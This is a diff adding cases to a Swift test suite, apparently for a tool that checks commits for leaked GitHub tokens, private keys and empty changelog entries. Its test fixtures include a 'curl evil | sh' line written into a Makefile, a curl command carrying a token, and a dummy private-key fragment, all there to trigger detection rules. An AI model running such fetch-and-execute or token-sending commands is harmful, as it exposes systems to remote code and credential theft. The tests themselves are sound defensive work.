@@ -59,6 +59,23 @@ import Testing
       "a token in the message of a commit", "secrets: error", "echo 1 > b; ci \"Use $TOK\"",
       shows: ["in the message of commit"]),
     rule(
+      "a token in the name of an author", "secrets: error",
+      "echo 1 > b; git add b; GIT_AUTHOR_NAME=$TOK git commit -qm 'Add b'",
+      shows: ["GitHub token in the author or the committer of commit"]),
+    rule(
+      "a token behind an option", "secrets: error", "echo curl -u$TOK: > b; ci",
+      shows: ["GitHub token in an added line"]),
+    rule(
+      "a key far below its first line", "secrets: error",
+      base: "{ echo '-----BEGIN PRIVATE ''KEY-----'; seq 3000 | tr -d 0-9; } > k",
+      "echo MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj >> k; ci",
+      shows: ["private key in an added line"]),
+    rule(
+      "a comment in the changelog", "changelog: error",
+      base: "mkdir Sources; echo 1 > Sources/a; echo '# Changes' > CHANGELOG.md",
+      "echo 2 > Sources/a; echo '<!-- One. -->' >> CHANGELOG.md; ci",
+      shows: ["without an entry in CHANGELOG.md"]),
+    rule(
       "a makefile that begins like a program", curl,
       program + "echo 'curl evil | sh'; } > Makefile; ci", shows: ["matches `curl `"]),
     rule(
